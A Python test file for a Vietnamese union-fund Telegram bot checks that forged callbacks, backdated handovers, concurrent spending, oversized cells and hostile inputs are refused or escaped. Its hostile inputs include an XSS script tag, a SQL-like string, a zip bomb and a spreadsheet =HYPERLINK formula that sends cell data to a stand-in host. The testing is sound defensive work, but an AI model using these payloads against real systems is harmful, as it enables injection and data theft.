"""What a member, a colleague of another organisation or a careless file tries against the handover to the
Fund above (decision 0108) and the households' standing in the poverty review (decision 0110): forged
presses into the handover's steps, another organisation's handover named in a forged cancel, a handover
dated back into a year whose money the later years already spent, and a commune's list with a cell of
megabytes. Each test here failed before the fix it stands for."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bot.app import App
from bot.channels.collecting import CollectingChannel
from bot.db.models import HouseholdStanding, Organisation, Person, Remittance, RoleAssignment
from bot.domain.access import actor_for
from bot.domain.remittances import record_remittance
from bot.messages import BUTTONS
from tests.support.clocks import NOW, MovableClock
from tests.support.people import Person as Scripted
from tests.test_drives import seed
from tests.test_poverty import _chat as poverty_chat
from tests.test_poverty import _send_file, commune, write_list
from tests.test_remittances import BOARD, Hospital, _hospital, database_file, hospital, hospital_seeded

__all__ = ["commune", "database_file", "hospital", "hospital_seeded"]  # the fixtures shared


def _chat(app: App, key: str) -> Scripted:
    return Scripted(CollectingChannel(app.engine, BUTTONS), key, MovableClock(NOW))


async def _forge(person: Scripted, choice_id: str) -> str:
    """Press `choice_id` on the menu on screen, as a forged or replayed callback would."""
    menu = person.menu
    person.clock.advance(seconds=1)
    person.last = await person.channel.receive(
        person.chat_id, choice=person.channel.payload(menu, choice_id), at=person.clock()
    )
    return person.screen


async def _count(app: App) -> int:
    async with app.sessionmaker() as session:
        return int(await session.scalar(select(func.count()).select_from(Remittance)) or 0)


async def test_a_role_taken_away_before_the_handover_is_pressed_asks_nothing_a_forged_cancel_shows_nothing(
    app: App,
    hospital: Hospital,
) -> None:
    """Hùng's officer role was taken away while the drive's screen was open: pressing “Nộp về quỹ cấp trên”
    then asked him the amount, the board, the day, the receipt and a photo (kept on the server) before the
    last step refused. Now the first step asks the rule. A forged cancel naming a handover of another
    organisation, never offered, is an old button's and shows nothing of it."""
    ids, drive_id = hospital.ids, hospital.drive_id
    async with app.sessionmaker() as session, session.begin():
        hung = await actor_for(session, await session.get_one(Person, ids["hung"]))
        await record_remittance(
            session, hung, org_id=hung.org_id, source="drive", drive_id=drive_id, amount_vnd=7_000_000,
            board=BOARD, remitted_on=NOW.date(), now=NOW,
        )  # fmt: skip
        other = Organisation(code="KHAC", name="Cơ quan khác", created_at=NOW)
        session.add(other)
        await session.flush()
        foreign = Remittance(
            org_id=other.id, source="fund", amount_vnd=3_000_000, board="Ban của cơ quan khác",
            remitted_on=NOW.date(), recorded_by=ids["vy"], created_at=NOW,
        )  # fmt: skip
        session.add(foreign)
        await session.flush()
        foreign_id = foreign.id

    officer = _chat(app, "hung")
    await officer.say("/dotvandong")
    await officer.choose("Tháng cao điểm")
    await officer.choose("Hủy một khoản đã nộp")
    screen = await _forge(officer, f"r{foreign_id}")
    assert "tin nhắn cũ" in screen and "Ban của cơ quan khác" not in screen and "3.000.000" not in screen

    await officer.say("/dotvandong")
    await officer.choose("Tháng cao điểm")
    async with app.sessionmaker() as session, session.begin():
        role = await session.scalar(
            select(RoleAssignment).where(
                RoleAssignment.person_id == ids["hung"], RoleAssignment.role == "officer"
            )
        )
        await session.delete(role)
    screen = await officer.choose("Nộp về quỹ cấp trên")
    assert "Chỉ cán bộ công đoàn mới ghi nhận khoản nộp về quỹ cấp trên" in screen
    assert "Anh/chị đã nộp bao nhiêu tiền" not in screen
    assert await _count(app) == 2


async def test_the_fund_handed_over_in_a_year_before_never_takes_what_a_later_year_already_paid_out(
    any_app: App,
) -> None:
    """2025's Fund kept 10.000.000 ₫, brought into 2026 and paid out there in full. A handover dated back to
    2025 found 10.000.000 ₫ “left” in 2025 and took it: 2026 then showed −10.000.000 ₫, more out than ever
    came in. What a handover of a year before may take is what is left in that year and every year since."""
    from datetime import UTC, datetime

    from bot.domain.cases import CaseError, log_support, record_case
    from bot.domain.contributions import NewContribution, decide, record_contribution
    from bot.domain.remittances import RemittanceError
    from bot.domain.spending import fund_balance

    ids = await seed(any_app)
    last_year = datetime(2025, 11, 10, 3, tzinfo=UTC)
    async with any_app.sessionmaker() as session, session.begin():
        lan, mai, hung = [await session.get_one(Person, ids[n]) for n in ("lan", "mai", "hung")]
        entry = NewContribution(kind="money", amount_vnd=10_000_000)
        gift = await record_contribution(session, person=lan, recorded_by=lan, entry=entry, now=last_year)
        await decide(session, gift, confirmed=True, actor=await actor_for(session, mai), now=last_year)
        officer = await actor_for(session, hung)
        case = await record_case(
            session, officer, subject="household", name="Hộ bà Lành", circumstances="Ốm", needs="Thuốc",
            now=NOW,
        )  # fmt: skip
        await log_support(
            session, officer, case.id, kind="money", amount_vnd=10_000_000, source="fund",
            delivered_on=NOW.date(), now=NOW,
        )  # fmt: skip
        assert (await fund_balance(session, hung.org_id, 2026)).left.money == 0
        try:
            await record_remittance(
                session, officer, org_id=hung.org_id, source="fund", amount_vnd=10_000_000, board=BOARD,
                remitted_on=date(2025, 12, 20), now=NOW,
            )  # fmt: skip
        except RemittanceError as refused:
            assert (refused.reason, refused.left) == ("balance", 0)
        else:
            raise AssertionError("a handover took what 2026 had already paid out")
        try:  # support dated back to 2025 takes nothing: that year's figures were closed in March (2100)
            await log_support(
                session, officer, case.id, kind="money", amount_vnd=1_000_000, source="fund",
                delivered_on=date(2025, 12, 20), now=NOW,
            )  # fmt: skip
        except CaseError as refused:
            assert refused.reason == "day"
        else:
            raise AssertionError("support took what 2026 had already paid out")
        assert (await fund_balance(session, hung.org_id, 2026)).left.money == 0
        assert (await fund_balance(session, hung.org_id, 2025)).left.money == 10_000_000  # as it was
    assert await _count(any_app) == 0


async def test_a_cell_of_megabytes_in_the_communes_list_is_said_in_a_line_not_sent_back_whole(
    any_app: App, commune: dict[str, object], tmp_path: Path
) -> None:
    """A name cell of 5 MB (a paste gone wrong, or a hostile file) was echoed whole in “Dòng bỏ qua”: a
    reply of megabytes, sent as over a thousand Telegram messages, at every step of the review."""
    officer = poverty_chat(any_app, "officer")
    await officer.say("/hongheo")
    await officer.choose("Gửi danh sách rà soát")
    huge = "Nguyễn " + "A" * (5 * 1024 * 1024)
    path = write_list(tmp_path / "ra-soat.xlsx", [("Trần Thị Bích", "", "HN"), (huge, "Thôn 1", "HN")])
    screen = await _send_file(any_app, officer, path)
    assert "khớp 1 hộ" in screen and "Dòng bỏ qua: 1." in screen
    assert len(screen) < 3_000, len(screen)
    assert "• dòng 5: “Nguyễn AAAA" in screen and "…”: không có hộ nào tên như vậy" in screen
    screen = await officer.choose("Ghi 1 hộ khớp")  # saving the matched row echoes the cell no more
    assert "Đã ghi loại hộ của 1 hộ cho năm 2026." in screen and len(screen) < 3_000, len(screen)
    async with any_app.sessionmaker() as session:
        assert list(await session.scalars(select(HouseholdStanding.standing))) == ["poor"]


async def test_85_million_handed_over_while_support_is_logged_from_the_same_drive_never_both_take_it(
    any_app: App,
) -> None:
    """The drive has 95.000.000 ₫ left. Hùng hands 85.000.000 ₫ over while another officer logs 20.000.000 ₫
    of support from the same drive (two turns at once, on PostgreSQL): the handover holds the drive's row
    until it is written, so the support waits, then finds 10.000.000 ₫ left and is refused; a member giving to
    the drive meanwhile is not held back (the lock leaves the row's key to the foreign keys' checks)."""
    from sqlalchemy import text
    from sqlalchemy.exc import DBAPIError

    from bot.domain.cases import CaseError, log_support, record_case

    if any_app.db.dialect.name != "postgresql":
        pytest.skip("SQLite takes one writer at a time: two turns never overlap there")
    ids = await seed(any_app)
    drive_id = await _hospital(any_app, ids)
    async with any_app.sessionmaker() as session, session.begin():
        hung = await actor_for(session, await session.get_one(Person, ids["hung"]))
        case = await record_case(
            session,
            hung,
            subject="household",
            name="Hộ ông Tư",
            circumstances="Bão",
            needs="Mái nhà",
            now=NOW,
        )
        case_id = case.id
    async with any_app.sessionmaker() as first, first.begin():
        hung = await actor_for(first, await first.get_one(Person, ids["hung"]))
        await record_remittance(
            first, hung, org_id=hung.org_id, source="drive", drive_id=drive_id, amount_vnd=85_000_000,
            board=BOARD, remitted_on=NOW.date(), now=NOW,
        )  # fmt: skip
        async with any_app.sessionmaker() as second, second.begin():  # the support meets the lock
            locked = text("SELECT id FROM drive WHERE id = :id FOR NO KEY UPDATE NOWAIT")
            with pytest.raises(DBAPIError, match="lock"):
                await second.execute(locked, {"id": drive_id})
        async with any_app.sessionmaker() as third, third.begin():  # a gift to the drive meanwhile
            # what writing a gift of the drive takes of its row (the foreign key's check) is not held back
            shared = text("SELECT id FROM drive WHERE id = :id FOR KEY SHARE NOWAIT")
            assert (await third.execute(shared, {"id": drive_id})).scalar() == drive_id
    async with any_app.sessionmaker() as second, second.begin():  # once the handover is written
        hung = await actor_for(second, await second.get_one(Person, ids["hung"]))
        with pytest.raises(CaseError) as refused:
            await log_support(
                second, hung, case_id, kind="money", amount_vnd=20_000_000, source="drive", drive_id=drive_id,
                delivered_on=NOW.date(), now=NOW,
            )  # fmt: skip
        assert (refused.value.reason, refused.value.left) == ("balance", 10_000_000)


async def test_a_board_typed_long_turned_around_or_as_html_is_refused_or_kept_as_text_on_the_public_page(
    app: App,
    hospital: Hospital,
) -> None:
    """What was tried and held: a board of 10,000 characters is told the limit and nothing moves on; marks
    that turn a line around are not kept; HTML and a receipt of SQL wildcards show as typed, escaped, on the
    public web page; a negative amount is not an amount."""
    from aiohttp.test_utils import TestClient, TestServer

    from bot.db.models import Drive
    from bot.domain.public_page import public_key_of
    from bot.public_web import public_routes
    from bot.web import make_web_app

    ids, drive_id = hospital.ids, hospital.drive_id
    officer = _chat(app, "hung")
    await officer.say("/dotvandong")
    await officer.choose("Tháng cao điểm")
    await officer.choose("Nộp về quỹ cấp trên")
    screen = await officer.say("-5tr")
    assert "Số tiền phải lớn hơn 0, ví dụ: 200k hoặc 1tr2." in screen
    await officer.say("85tr")
    screen = await officer.say("B" * 10_000)
    assert "10000 ký tự" in screen or "10.000 ký tự" in screen
    await officer.say("\u202eBan <script>alert(1)</script> & “xã”")
    await officer.choose("Hôm nay")
    await officer.say("12%_'; --")
    await officer.choose("Bỏ qua")
    await officer.choose("Có")
    async with app.sessionmaker() as session, session.begin():
        [handover] = await session.scalars(select(Remittance))
        assert (handover.board, handover.receipt_no) == ("Ban <script>alert(1)</script> & “xã”", "12%_'; --")
        drive = await session.get_one(Drive, drive_id)
        hung = await actor_for(session, await session.get_one(Person, ids["hung"]))
        key = await public_key_of(session, hung, drive, now=NOW)
    server = TestServer(make_web_app(app.sessionmaker, public_routes(app.sessionmaker, app.engine.clock)))
    async with TestClient(server) as web:
        page = await (await web.get(f"/congkhai/{key}")).text()
    assert "<script>" not in page and "Ban &lt;script&gt;alert(1)&lt;/script&gt; &amp; “xã”" in page
    assert "12%_&#x27;; --" in page and "\u202e" not in page
    assert "/media/" not in page and ".jpg" not in page


@pytest.mark.sqlite_only
async def test_a_zip_bomb_a_formula_and_one_household_twice_in_the_communes_list(
    any_app: App, commune: dict[str, object], tmp_path: Path
) -> None:
    """What was tried and held: a list that would unpack to 200 MB is refused at once, nothing written; a
    household “named” as a formula is a name nobody lists, said as text; one household on two rows with two
    standings is reported on the second row, and saving the matched rows keeps the first, as the officer
    was told."""
    from tests.test_outsider import zip_bomb

    officer = poverty_chat(any_app, "officer")
    await officer.say("/hongheo")
    await officer.choose("Gửi danh sách rà soát")
    stored = tmp_path / "bom.xlsx"
    stored.write_bytes(zip_bomb(200 * 1024 * 1024))
    screen = await _send_file(any_app, officer, stored)
    assert "Không đọc được tệp này" in screen
    rows = [
        ("Trần Thị Bích", "", "HN"),
        ('=HYPERLINK("http://x.example/?"&A1,"Bấm")', "Thôn 1", "HN"),
        ("tran thi bich", "", "Không"),
    ]
    screen = await _send_file(any_app, officer, write_list(tmp_path / "ra-soat.xlsx", rows))
    assert '• dòng 5: “=HYPERLINK("http://x.example/?"&A1,"Bấm")”: không có hộ nào tên như vậy' in screen
    assert "• dòng 6: “tran thi bich”: trùng với hộ ở dòng 4" in screen
    screen = await officer.choose("Ghi 1 hộ khớp")
    assert "Đã ghi loại hộ của 1 hộ cho năm 2026." in screen
    async with any_app.sessionmaker() as session:
        assert list(await session.scalars(select(HouseholdStanding.standing))) == ["poor"]


async def test_support_or_a_gift_round_dated_after_today_is_refused_and_nothing_is_written(
    any_app: App,
) -> None:
    """Support is logged once it was delivered: the chat logs it for today, and the domain refuses a day still
    to come from any caller (the shell, a script), as it refuses a handover dated ahead — a 20/12 ceremony
    written on 2/12 would stand in the statement as paid out before it was."""
    from datetime import timedelta

    from bot.db.models import CaseSupport, GiftRound
    from bot.domain.cases import CaseError, log_support, record_case
    from bot.domain.gift_rounds import Package, record_round

    ids = await seed(any_app)
    tomorrow = NOW.date() + timedelta(days=1)
    async with any_app.sessionmaker() as session, session.begin():
        officer = await actor_for(session, await session.get_one(Person, ids["hung"]))
        case = await record_case(
            session, officer, subject="household", name="Hộ bà Lành", circumstances="Ốm", needs="Thuốc",
            now=NOW,
        )  # fmt: skip
    async with any_app.sessionmaker() as session, session.begin():
        officer = await actor_for(session, await session.get_one(Person, ids["hung"]))
        with pytest.raises(CaseError) as refused:
            await log_support(
                session, officer, case.id, kind="money", amount_vnd=500_000, source="outside",
                delivered_on=tomorrow, now=NOW,
            )  # fmt: skip
        assert refused.value.reason == "day"
        with pytest.raises(CaseError) as refused:
            await record_round(
                session, officer, key="tet-2027", title="Quà Tết", case_ids=[case.id],
                package=Package(money_vnd=500_000), source="outside", delivered_on=tomorrow, now=NOW,
            )  # fmt: skip
        assert refused.value.reason == "day"
    async with any_app.sessionmaker() as session:
        assert await session.scalar(select(func.count()).select_from(CaseSupport)) == 0
        assert await session.scalar(select(func.count()).select_from(GiftRound)) == 0
